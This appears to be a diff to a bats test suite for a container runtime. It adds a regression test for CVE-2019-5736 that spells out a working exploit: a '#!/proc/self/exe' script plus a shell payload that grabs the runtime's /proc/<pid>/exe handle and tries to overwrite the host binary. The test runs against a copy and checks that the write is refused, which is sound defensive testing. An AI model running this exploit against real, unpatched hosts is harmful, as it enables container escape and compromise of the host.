@@ -8,7 +8,11 @@
 load helpers
 
 setup() { common_setup; }
-teardown() { common_teardown; }
+# A runtime copy that an attack damaged cannot clean up: the real one does.
+teardown() {
+	OCIRT=${REAL_OCIRT:-$OCIRT}
+	common_teardown
+}
 
 # use_runtime_copy - run a private copy of the runtime under test from
 # $BATS_TEST_TMPDIR/bin, so an attack that works damages only the copy.
@@ -16,6 +20,7 @@ use_runtime_copy() {
 	mkdir -p "$BATS_TEST_TMPDIR/bin"
 	RUNTIME_COPY="$BATS_TEST_TMPDIR/bin/$RUNTIME_NAME"
 	cp "$(command -v "$OCIRT")" "$RUNTIME_COPY"
+	REAL_OCIRT=$OCIRT
 	OCIRT=$RUNTIME_COPY
 	COPY_SUM=$(sha256sum <"$RUNTIME_COPY")
 }
@@ -42,4 +47,50 @@ use_runtime_copy() {
 	assert_equal "$(sha256sum <"$RUNTIME_COPY")" "$COPY_SUM"
 	run "$RUNTIME_COPY" --version
 	assert_success
+}
+
+# The exploit itself, on an exec'd process: the image holds the runtime's
+# shared libraries (as any glibc image does; without its loader the runtime
+# could not run in the container at all) and a script whose interpreter is
+# /proc/self/exe. The exec'd process is still an image of the runtime when
+# it execs that script, so the kernel runs the runtime again inside the
+# container, dumpable. Its --log names a fifo, so it blocks until the
+# attacker, the container's init, holds its /proc/<pid>/exe; once it has
+# exited, the attacker writes through that handle. As under conmon or
+# containerd, no process of the runtime stays behind (ocirt's standalone
+# shim would keep the binary busy, ETXTBSY, for as long as the container).
+@test "a process exec'd into the container cannot overwrite the runtime through #!/proc/self/exe (CVE-2019-5736)" {
+	use_runtime_copy
+	export OCIRT_SHIM=never
+	make_bundle --copy -- /attack
+	local lib
+	for lib in $(ldd "$RUNTIME_COPY" | grep -o '/[^ ]*'); do
+		cp -L --parents "$lib" "$BUNDLE/rootfs"
+	done
+	printf '#!/proc/self/exe --log=/tmp/gate\n' >"$BUNDLE/rootfs/evil"
+	chmod 0755 "$BUNDLE/rootfs/evil"
+	put_script /attack 'mkfifo /tmp/gate
+pid=
+while [ -z "$pid" ]; do
+	pid=$(grep -l "log=/tmp/gat[e]" /proc/[0-9]*/cmdline 2>/dev/null | head -n 1 | cut -d/ -f3)
+done
+exec 3<"/proc/$pid/exe" || { echo "no handle" >/tmp/result; exit 1; }
+cat /tmp/gate >/dev/null &
+while [ -d "/proc/$pid" ]; do sleep 0.1; done
+i=0
+while [ $i -lt 20 ]; do
+	if echo owned 2>/dev/null >/proc/self/fd/3; then echo written >/tmp/result; exit 0; fi
+	i=$((i + 1)); sleep 0.1
+done
+echo refused >/tmp/result
+sleep 1000'
+	create_container
+	ocirt start "$CTR_ID"
+	wait_for_status "$CTR_ID" running
+	# It fails either way: "/evil" is no command of the runtime.
+	try exec "$CTR_ID" /evil
+	wait_for_file "$BUNDLE/rootfs/tmp/result" 20
+	run cat "$BUNDLE/rootfs/tmp/result"
+	assert_output refused
+	assert_equal "$(sha256sum <"$RUNTIME_COPY")" "$COPY_SUM"
 }
